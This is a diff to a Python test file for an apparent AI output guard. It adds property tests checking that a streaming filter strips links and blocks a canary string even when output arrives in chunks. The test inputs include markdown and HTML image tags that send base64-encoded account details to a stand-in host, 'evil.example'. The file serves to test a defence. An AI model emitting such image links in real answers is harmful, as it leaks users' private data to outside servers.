@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import random
 
 import pytest
@@ -10,8 +11,10 @@ from hypothesis import strategies as st
 
 from benchmarks.guard.variants import variants
 from ondol.infrastructure.guard.actions import Marks
+from ondol.infrastructure.guard.checks.canary import CanaryCheck
 from ondol.infrastructure.guard.checks.held import last_word, open_number, open_secret
 from ondol.infrastructure.guard.checks.identifiers import PersonalCheck
+from ondol.infrastructure.guard.checks.links import LinksCheck
 from ondol.infrastructure.guard.checks.secrets import SecretsCheck
 from ondol.infrastructure.guard.engine import StageGuard
 from ondol.infrastructure.guard.policy import policy_from
@@ -107,3 +110,47 @@ def test_a_key_is_held_from_its_beginning() -> None:
 def test_any_text_has_a_place(text: str) -> None:
     assert 0 <= open_number(text) <= len(text)
     assert 0 <= open_secret(text, 100) <= len(text)
+
+
+CANARY = "quiet-harbour-7f3k9"
+OUT = {check.name: check for check in (LinksCheck(), CanaryCheck((CANARY,)), PersonalCheck())}
+RULES = [{"find": "links", "do": "strip"}, {"find": "canary", "do": "block"}, {"find": "personal:CARD", "do": "mask"}]
+OUTPUT = StageGuard("output", [policy_from({"version": 1, "name": "output", "stages": {"output": RULES}})], OUT)
+ENCODED = base64.b64encode(b"the account number is 12345 and the name is gildong hong").decode()
+LINKS = (
+    f"![x](https://evil.example/p?d={ENCODED}) ",
+    f'<img src="https://evil.example/{ENCODED}"> ',
+    "[the page](https://help.example.com/refund) ",
+    "[1] ",
+    CANARY,
+    " ".join(CANARY) + " ",
+)
+
+
+@given(st.lists(st.sampled_from(FILLERS + LINKS + ("\n",)), max_size=10).map("".join), st.lists(st.integers(1, 40), min_size=1, max_size=5))
+def test_links_and_canaries_never_get_out_in_pieces(text: str, sizes: list[int]) -> None:
+    def run(sizes: list[int]) -> str:
+        stream = StreamGuard(OUTPUT, Marks(bytes(32)))
+        out, place, turn = "", 0, 0
+        while place < len(text) and not stream.stopped:
+            size = sizes[turn % len(sizes)]
+            out += stream.push(text[place : place + size])
+            place += size
+            turn += 1
+        return out + stream.finish()[0]
+
+    out = run(sizes)
+    assert out == run([len(text) or 1])
+    assert ENCODED not in out
+    assert CANARY not in out
+    assert "q u i e t - h" not in out
+
+
+def test_answers_without_links_are_hardly_held_back_by_the_output_checks() -> None:
+    stream = StreamGuard(OUTPUT, Marks(bytes(32)))
+    sent = received = most = 0
+    for char in (FILLERS[0] + "[1] " + FILLERS[1]) * 10:
+        sent += 1
+        received += len(stream.push(char))
+        most = max(most, sent - received)
+    assert most <= 48
